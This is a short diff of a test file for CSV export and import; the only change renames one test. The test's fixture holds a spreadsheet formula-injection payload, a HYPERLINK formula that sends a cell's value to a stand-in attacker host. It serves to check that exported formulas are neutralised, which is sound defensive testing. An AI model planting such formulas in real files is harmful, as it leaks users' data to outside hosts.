@@ -125,7 +125,7 @@ describe.each(engines)('CSV templates and Arrow on $name', (engine) => {
 		expect(readdirSync(join(tmp, `${engine.name}-csv`))).toContain('enrolments.csv');
 	});
 
-	it('exports an imported formula neutralised (issue 33), and it imports back as it was', async () => {
+	it('exports an imported formula neutralised, and it imports back as it was', async () => {
 		const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"x")';
 		const text =
 			'id,name,kind,country,qa_approach,accredited,origin\n' +
